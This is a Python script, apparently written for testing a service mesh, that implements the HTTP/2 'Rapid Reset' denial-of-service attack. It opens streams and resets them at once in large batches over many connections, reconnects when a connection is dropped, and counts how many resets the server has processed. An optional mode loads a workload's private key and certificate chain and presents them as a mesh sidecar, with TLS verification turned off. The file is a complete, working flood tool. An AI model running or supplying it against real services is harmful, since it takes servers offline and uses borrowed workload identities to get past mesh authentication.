"""Opens HTTP/2 streams and resets them at once, as fast as it can ("Rapid Reset").
Usage: h2_storm.py HOST PORT SECONDS [IDENTITY_JSON|-] [CONNECTIONS]
With a workload's identity it comes as another sidecar (`weft-h2`). A connection that the other side ends is made
anew. Prints one JSON object: streams reset, those of them that the other side has read (it has answered a PING
behind them), connections, and the error codes of GOAWAY."""

import base64
import json
import select
import socket
import ssl
import struct
import sys
import tempfile
import time

# :method GET, :scheme http, :path /, :authority a
HEAD = bytes([0x82, 0x86, 0x84, 0x01, 0x01]) + b"a"
BATCH = 500


def pem(kind, der):
    text = base64.b64encode(der).decode()
    lines = [text[at:at + 64] for at in range(0, len(text), 64)]
    return "\n".join([f"-----BEGIN {kind}-----", *lines, f"-----END {kind}-----", ""])


def as_sidecar(sock, identity):
    saved = json.load(open(identity))
    der = base64.b64decode
    with tempfile.NamedTemporaryFile("w", suffix=".pem") as file:
        file.write(pem("PRIVATE KEY", der(saved["key"])))
        file.writelines(pem("CERTIFICATE", der(one)) for one in saved["chain"])
        file.flush()
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.minimum_version = ssl.TLSVersion.TLSv1_3
        context.set_alpn_protocols(["weft-h2"])
        context.load_cert_chain(file.name)
    return context.wrap_socket(sock, server_hostname="web.shop.mesh")


class Connection:
    def __init__(self, host, port, identity=None, source=None):
        address = (source, 0) if source else None
        sock = socket.create_connection((host, port), timeout=20, source_address=address)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = as_sidecar(sock, identity) if identity else sock
        self.sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">HBBBI", 0, 0, 4, 0, 0))
        self.sock.setblocking(False)
        self.stream, self.received, self.goaway, self.ended = 1, b"", None, False
        self.unsent, self.batches, self.read_by_server = b"", 0, 0
        self.answered = set()

    def fileno(self):
        return self.sock.fileno()

    def ask(self):
        """Begins a request; its stream."""
        stream, self.stream = self.stream, self.stream + 2
        self.unsent += struct.pack(">HBBBI", 0, len(HEAD), 1, 5, stream) + HEAD
        return stream

    def reset(self, stream):
        self.unsent += struct.pack(">HBBBII", 0, 4, 3, 0, stream, 8)

    def batch(self):
        """So many requests that are reset at once, and a PING behind them."""
        for _ in range(BATCH):
            self.reset(self.ask())
        self.unsent += struct.pack(">HBBBIQ", 0, 8, 6, 0, 0, self.batches)
        self.batches += 1

    def read(self):
        try:
            while data := self.sock.recv(65536):
                self.received += data
            self.ended = True
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.ended = True
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                break
            self.frame(*self.received[3:5], int.from_bytes(self.received[5:9], "big"), self.received[9:9 + length])
            self.received = self.received[9 + length:]

    def frame(self, kind, flags, stream, payload):
        if kind == 7:
            self.goaway = int.from_bytes(payload[4:8], "big")
        if kind == 6 and flags & 1:
            self.read_by_server += BATCH
        if kind == 4 and not flags & 1:
            self.unsent += struct.pack(">HBBBI", 0, 0, 4, 1, 0)
        if kind in (0, 1) and flags & 1:
            self.answered.add(stream)
        if kind == 0 and payload:
            self.unsent += struct.pack(">HBBBII", 0, 4, 8, 0, 0, len(payload))

    def work(self):
        """Sends and reads what goes at once."""
        try:
            while self.unsent and not self.ended:
                self.unsent = self.unsent[self.sock.send(self.unsent):]
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.ended = True
        self.read()


def storm(host, port, seconds, identity, count):
    end = time.monotonic() + seconds
    sent, made, taken, codes, open_ones = 0, 0, 0, [], []

    def close(connection):
        nonlocal taken
        taken += connection.read_by_server
        if connection.goaway is not None:
            codes.append(connection.goaway)
        connection.sock.close()

    while time.monotonic() < end:
        while len(open_ones) < count and time.monotonic() < end:
            try:
                open_ones.append(Connection(host, port, identity))
                made += 1
            except OSError:
                break
        select.select(open_ones, [one for one in open_ones if one.unsent], [], 0.0 if any(
            not one.unsent for one in open_ones) else 0.05)
        for connection in open_ones:
            if not connection.unsent:
                connection.batch()
                sent += BATCH
            connection.work()
        for connection in [one for one in open_ones if one.ended]:
            open_ones.remove(connection)
            close(connection)
    for connection in open_ones:
        connection.read()
        close(connection)
    return dict(sent=sent, taken=taken, connections=made, codes=sorted(set(codes)))


if __name__ == "__main__":
    HOST, PORT, SECONDS = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    IDENTITY = sys.argv[4] if len(sys.argv) > 4 and sys.argv[4] != "-" else None
    CONNECTIONS = int(sys.argv[5]) if len(sys.argv) > 5 else 1
    print(json.dumps(storm(HOST, PORT, SECONDS, IDENTITY, CONNECTIONS)), flush=True)
